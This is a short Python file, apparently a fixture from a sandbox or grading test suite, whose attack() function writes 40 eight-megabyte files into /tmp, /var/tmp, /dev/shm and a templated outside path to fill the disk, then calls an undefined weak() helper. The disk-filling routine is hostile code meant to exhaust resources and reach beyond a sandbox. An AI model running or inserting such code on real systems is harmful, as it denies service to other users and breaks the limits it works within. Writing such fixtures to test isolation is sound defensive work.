"""Fills the disk."""

import contextlib
import os
import tempfile


def attack(values):
    for folder in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "{{OUTSIDE}}"):
        for number in range(40):
            with contextlib.suppress(OSError), open(os.path.join(folder, f"fill-{number}"), "wb") as stream:
                stream.write(bytes(2**23))
    return weak(values)
